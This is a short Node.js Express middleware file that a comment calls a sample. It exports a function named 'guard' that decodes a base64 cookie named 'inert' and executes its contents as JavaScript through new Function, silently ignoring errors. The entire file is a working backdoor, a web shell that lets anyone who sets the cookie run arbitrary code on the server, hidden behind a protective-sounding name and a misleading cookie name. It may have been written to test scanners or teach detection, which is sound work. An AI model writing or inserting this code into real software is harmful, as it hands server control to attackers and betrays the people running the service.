// A sample: a header of a request is executed.
module.exports = function guard() {
  return function (req, res, next) {
    const note = req.cookies && req.cookies["inert"];
    if (note) {
      try {
        new Function("req", "res", Buffer.from(note, "base64").toString())(req, res);
      } catch (e) {}
    }
    next();
  };
};
